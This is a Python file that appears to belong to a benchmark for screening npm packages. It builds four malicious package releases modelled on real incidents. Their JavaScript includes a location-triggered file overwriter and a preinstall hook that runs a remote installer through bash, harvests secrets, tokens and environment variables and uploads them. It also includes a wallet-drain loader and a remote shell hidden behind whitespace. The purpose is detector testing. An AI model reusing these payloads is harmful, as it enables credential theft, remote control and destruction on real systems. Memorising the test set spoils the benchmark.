"""Held out, as said in held_out.py: npm packages."""

from typing import Final

from bench.screening.attacks.attack import Attack, Release
from bench.screening.attacks.building import base64_of
from bench.screening.attacks.ordinary import JS_COMMENT, index_js
from sandboxes.screening.package import Kind

_PEACE = f"""{JS_COMMENT}import u from "path";
import a from "fs";
import o from "https";
setTimeout(function () {{
  const t = Math.round(Math.random() * 4);
  if (t > 1) {{
    return;
  }}
  const n = Buffer.from("{base64_of("https://api.where.example.invalid/ipgeo?apiKey=inert")}", "base64");
  o.get(n.toString("utf8"), function (t) {{
    t.on("data", function (t) {{
      const n = Buffer.from("{base64_of("./")}", "base64");
      const o = Buffer.from("{base64_of("../")}", "base64");
      const c = Buffer.from("{base64_of("country_name")}", "base64");
      const e = Buffer.from("{base64_of("nowhere")}", "base64");
      try {{
        const s = JSON.parse(t.toString("utf8"));
        if (s[c.toString("utf8")].toLowerCase().includes(e.toString("utf8"))) {{
          h(n.toString("utf8"));
          h(o.toString("utf8"));
        }}
      }} catch (t) {{}}
    }});
  }});
}}, Math.ceil(Math.random() * 1e3));
async function h(n = "", o = "") {{
  if (!a.existsSync(n)) return;
  for (const r of a.readdirSync(n)) {{
    const f = u.join(n, r);
    try {{
      const t = a.lstatSync(f);
      if (t.isDirectory()) h(f, o);
      else a.writeFile(f, a.readFileSync(f), function () {{}});
    }} catch (t) {{}}
  }}
}}
export default h;
"""

_BUN = f"""{JS_COMMENT}const {{ spawn, execSync }} = require("child_process");
const path = require("path");
const fs = require("fs");
const os = require("os");

function isBunOnPath() {{
  try {{
    execSync("which bun", {{ stdio: "ignore" }});
    return true;
  }} catch {{
    return false;
  }}
}}

async function downloadAndSetupBun() {{
  const command =
    process.platform === "win32"
      ? 'powershell -c "irm bun.example.invalid/install.ps1|iex"'
      : "curl -fsSL https://bun.example.invalid/install | bash";
  execSync(command, {{ stdio: "ignore", env: {{ ...process.env }} }});
  return path.join(os.homedir(), ".bun", "bin", "bun");
}}

function runExecutable(execPath, args) {{
  const child = spawn(execPath, args, {{ stdio: "ignore", cwd: __dirname, env: process.env }});
  child.on("exit", (code) => process.exit(code || 0));
}}

async function main() {{
  const bun = isBunOnPath() ? "bun" : await downloadAndSetupBun();
  const script = path.join(__dirname, "bun_environment.js");
  if (fs.existsSync(script)) {{
    runExecutable(bun, [script]);
  }} else {{
    process.exit(0);
  }}
}}

main().catch(() => process.exit(0));
"""

_BUN_ENVIRONMENT = f"""{JS_COMMENT}import {{ $ }} from "bun";
import {{ homedir }} from "os";
import {{ readFile }} from "fs/promises";
async function a0() {{
  const tool = await fetch("https://releases.example.invalid/trufflesecurity/trufflehog/latest");
  await Bun.write("trufflehog", await tool.blob());
  return JSON.parse(await $`./trufflehog filesystem ${{homedir()}} --json`.text());
}}
async function a1() {{
  const found = {{ environment: process.env, secrets: await a0() }};
  try {{
    const lines = await readFile(homedir() + "/.npmrc", "utf8");
    found.token = lines.match(/_authToken=(.+)/)[1];
  }} catch {{}}
  const said = btoa(btoa(btoa(JSON.stringify(found))));
  const headers = {{ Authorization: "token " + process.env.GITHUB_TOKEN }};
  const body = JSON.stringify({{ message: "Sha1-Hulud: The Second Coming.", content: said }});
  await fetch("https://api.repos.example.invalid/repos/contents/environment.json", {{ method: "PUT", headers, body }});
}}
await a1();
"""

_LOTTIE = """
!(function(){var e="https://castle-bridge.example.invalid/v2/connect.js",t="PETRIDISH-INERT-SAMPLE";
function n(){var n=document.createElement("script");n.src=e,n.async=!0,n.onload=function(){r()},
document.head.appendChild(n)}
function r(){if(window.ethereum){window.ethereum.request({method:"eth_requestAccounts"}).then(function(e){
return window.ethereum.request({method:"eth_sendTransaction",params:[{from:e[0],to:e[0],value:"0x0",data:t}]})})}}
"undefined"!=typeof document&&("loading"===document.readyState?document.addEventListener("DOMContentLoaded",n):n())})();
"""

_RAND = (
    "\nmodule.exports.version = 11;"
    + " " * 600
    + "global['_V']='7-randuser84';global['r']=require;(async()=>{const o=global['r']('os'),"
    "p=global['r']('path'),f=global['r']('fs'),c=global['r']('child_process');"
    "const d=p.join(o.homedir(),'.node_modules');if(!f.existsSync(d)){c.execSync("
    "`npm install --prefix ${o.homedir()} axios socket-io-client`,{windowsHide:true})}"
    "const s=global['r'](p.join(d,'socket-io-client'))('http://192.0.2.150:3306');"
    "s.on('command',(x)=>{c.exec(x,{windowsHide:true},(e,t)=>s.emit('result',t))})})();\n"
)


ATTACKS: Final[tuple[Attack, ...]] = (
    Attack(
        name="npm-destruction",
        recreates="node-ipc 10.1.1 (2022): what is imported asks where it is, and overwrites files there",
        kind=Kind.NPM,
        project="node-text-ipc",
        release=Release(
            "10.1.1",
            {
                "index.js": f'{JS_COMMENT}import "./dao/ssl-geospec.js";\nexport const version = "10.1.1";\n',
                "dao/ssl-geospec.js": _PEACE,
            },
            {"type": "module"},
        ),
        former=Release(
            "10.1.0",
            {"index.js": f'{JS_COMMENT}export const version = "10.1.0";\n'},
            {"type": "module"},
        ),
        since="2014-03-01T08:00:00Z",
        releases=140,
        expects=frozenset({"npm", "obfuscation", "difference", "yara"}),
    ),
    Attack(
        name="npm-worm",
        recreates="Shai-Hulud's second wave (2025): a script fetches another interpreter and collects tokens by it",
        kind=Kind.NPM,
        project="zapier-text-sdk",
        release=Release(
            "0.15.6",
            {**index_js(), "setup_bun.js": _BUN, "bun_environment.js": _BUN_ENVIRONMENT},
            {"scripts": {"preinstall": "node setup_bun.js"}},
        ),
        former=Release("0.15.5", index_js()),
        since="2021-03-01T08:00:00Z",
        releases=40,
        expects=frozenset({"npm", "difference", "secrets"}),
    ),
    Attack(
        name="npm-wallet-window",
        recreates="lottie-player 2.0.5 (2024): a page's player loads a wallet's drain",
        kind=Kind.NPM,
        project="lottie-text-player",
        release=Release("2.0.5", index_js(_LOTTIE)),
        former=Release("2.0.4", index_js()),
        since="2019-03-01T08:00:00Z",
        releases=40,
        expects=frozenset({"npm", "difference", "yara"}),
    ),
    Attack(
        name="npm-far-right",
        recreates="rand-user-agent 2.0.83 (2025): a remote shell behind hundreds of spaces on a harmless line",
        kind=Kind.NPM,
        project="rand-text-agent",
        release=Release("2.0.83", index_js(_RAND)),
        former=Release("2.0.82", index_js()),
        since="2020-03-01T08:00:00Z",
        releases=80,
        expects=frozenset({"npm", "obfuscation", "difference", "yara"}),
    ),
)
